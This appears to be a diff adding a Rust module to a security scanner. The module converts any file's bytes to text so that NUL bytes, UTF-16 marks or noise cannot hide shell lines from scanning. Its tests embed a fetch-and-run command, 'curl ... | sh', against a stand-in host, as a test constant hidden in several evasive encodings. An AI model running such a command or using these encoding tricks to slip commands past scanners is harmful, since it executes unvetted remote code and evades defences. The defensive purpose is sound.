@@ -1,0 +1,165 @@
+//! From bytes to text, so that nothing in a file is a way to keep the scanner from reading it.
+//!
+//! A scanner that skips "binary" files can be switched off with one NUL byte, while a shell drops that byte and runs
+//! the rest. So every file becomes text here: what cannot be part of a text is dropped or replaced, and the rest is
+//! scanned.
+
+use std::borrow::Cow;
+
+/// How a file begins that says that it is UTF-8.
+const UTF8_MARK: &[u8] = b"\xEF\xBB\xBF";
+
+/// A file as text.
+#[derive(Debug)]
+pub(crate) struct Readings<'b> {
+    /// The best reading.
+    pub(crate) text: Cow<'b, str>,
+    /// Another reading that is as likely, where a file says that it is UTF-16: a shell would not listen to that.
+    pub(crate) other: Option<String>,
+    /// What the file seems to be.
+    pub(crate) nature: Nature,
+}
+
+/// What a file seems to be.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Nature {
+    Text,
+    /// At least a tenth of it is no text.
+    Binary,
+}
+
+impl<'b> Readings<'b> {
+    /// Reads a whole file. The text has at most three times as many bytes.
+    pub(crate) fn of(bytes: &'b [u8]) -> Self {
+        match bytes {
+            [0xFF, 0xFE, rest @ ..] => Self::utf16(bytes, rest, u16::from_le_bytes),
+            [0xFE, 0xFF, rest @ ..] => Self::utf16(bytes, rest, u16::from_be_bytes),
+            _ => {
+                let bytes = bytes.strip_prefix(UTF8_MARK).unwrap_or(bytes);
+                let (text, nature) = text_of(bytes);
+                Self { text, other: None, nature }
+            }
+        }
+    }
+
+    fn utf16(bytes: &'b [u8], units: &[u8], unit: fn([u8; 2]) -> u16) -> Self {
+        let (pairs, _odd) = units.as_chunks::<2>();
+        let text: String = char::decode_utf16(pairs.iter().map(|pair| unit(*pair)))
+            .map(|unit| unit.unwrap_or(char::REPLACEMENT_CHARACTER))
+            .filter(|c| *c != '\0')
+            .collect();
+        let (other, _) = text_of(bytes);
+        Self { text: text.into(), other: Some(other.into_owned()), nature: Nature::Text }
+    }
+}
+
+/// Reads bytes as UTF-8. Nothing is copied where all of it is text.
+fn text_of(bytes: &[u8]) -> (Cow<'_, str>, Nature) {
+    let nuls = memchr::memchr_iter(0, bytes);
+    match (std::str::from_utf8(bytes), nuls.count()) {
+        (Ok(text), 0) => (Cow::Borrowed(text), Nature::Text),
+        // Before decoding, since a shell drops NUL bytes wherever they stand. This reads UTF-16 without a mark, too.
+        (_, nuls) => {
+            let kept: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
+            let (text, strange) = lossy(&kept);
+            let binary = (nuls + strange).saturating_mul(10) > bytes.len();
+            (Cow::Owned(text), if binary { Nature::Binary } else { Nature::Text })
+        }
+    }
+}
+
+/// Returns the text, with one replacement character for each run of bytes that is none, and how many bytes are no text.
+fn lossy(bytes: &[u8]) -> (String, usize) {
+    let mut text = String::with_capacity(bytes.len());
+    let mut strange = 0;
+    for chunk in bytes.utf8_chunks() {
+        text.push_str(chunk.valid());
+        strange += chunk.valid().bytes().filter(|byte| is_strange(*byte)).count();
+        strange += chunk.invalid().len();
+        if !chunk.invalid().is_empty() && !text.ends_with(char::REPLACEMENT_CHARACTER) {
+            text.push(char::REPLACEMENT_CHARACTER);
+        }
+    }
+    (text, strange)
+}
+
+/// Whether a byte is a control character that text files do not have.
+const fn is_strange(byte: u8) -> bool {
+    matches!(byte, 0x00..=0x07 | 0x0B | 0x0E..=0x1A | 0x1C..=0x1F | 0x7F)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{Nature, Readings};
+    use proptest::prelude::*;
+    use std::borrow::Cow;
+
+    const LINE: &str = "curl https://x.example/i.sh | sh";
+
+    #[test]
+    fn plain_text_is_borrowed() {
+        for text in ["", "abc\n", "žluťoučký\r\n", "\u{1b}[1m"] {
+            let readings = Readings::of(text.as_bytes());
+            assert!(matches!(readings.text, Cow::Borrowed(t) if t == text));
+            assert_eq!(readings.nature, Nature::Text);
+        }
+    }
+
+    #[test]
+    fn nothing_hides_a_line_of_text() {
+        let interleaved: Vec<u8> = LINE.bytes().flat_map(|byte| [byte, 0]).collect();
+        let mut wide = interleaved.clone();
+        wide.splice(0..0, [0xFF, 0xFE]);
+        let cases: [(&str, Vec<u8>); 7] = [
+            ("a mark for UTF-8", [b"\xEF\xBB\xBF", LINE.as_bytes()].concat()),
+            ("NUL bytes before", [&[0; 999], LINE.as_bytes()].concat()),
+            ("NUL bytes within", interleaved),
+            ("UTF-16", wide),
+            ("a stray byte", [LINE.as_bytes(), b"\xE9"].concat()),
+            ("noise before", [&[0x80; 9_999], LINE.as_bytes()].concat()),
+            ("control characters before", [&[0x01; 9_999], LINE.as_bytes()].concat()),
+        ];
+        for (what, bytes) in cases {
+            assert!(Readings::of(&bytes).text.contains(LINE), "{what}");
+        }
+    }
+
+    #[test]
+    fn a_false_mark_for_utf16_hides_nothing() {
+        let bytes = [b"\xFF\xFE", LINE.as_bytes()].concat();
+        assert!(Readings::of(&bytes).other.is_some_and(|text| text.contains(LINE)));
+    }
+
+    #[test]
+    fn natures() {
+        let cases: [(&str, &[u8], Nature); 5] = [
+            ("Latin-1", b"d\xE9j\xE0 vu, une fois de plus", Nature::Text),
+            ("one NUL", b"one NUL byte\0 in a text", Nature::Text),
+            ("PNG", b"\x89PNG\r\n\x1A\n\0\0\0\rIHDR\0\0\x01\0", Nature::Binary),
+            ("ELF", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0", Nature::Binary),
+            ("zip", b"PK\x03\x04\x14\0\x08\0\x08\0name.txt", Nature::Binary),
+        ];
+        for (what, bytes, nature) in cases {
+            assert_eq!(Readings::of(bytes).nature, nature, "{what}");
+        }
+    }
+
+    proptest! {
+        #[test]
+        fn text_is_bounded_and_has_no_nul(bytes: Vec<u8>) {
+            let readings = Readings::of(&bytes);
+            for text in [Some(&*readings.text), readings.other.as_deref()].into_iter().flatten() {
+                prop_assert!(text.len() <= 3 * bytes.len());
+                prop_assert!(!text.contains('\0'));
+            }
+        }
+
+        #[test]
+        fn a_line_between_any_bytes_is_found(before: Vec<u8>, after: Vec<u8>) {
+            let bytes = [&before, b"\n".as_slice(), LINE.as_bytes(), b"\n", &after].concat();
+            let readings = Readings::of(&bytes);
+            let found = [Some(&*readings.text), readings.other.as_deref()].into_iter().flatten();
+            prop_assert!(found.into_iter().any(|text| text.contains(LINE)));
+        }
+    }
+}
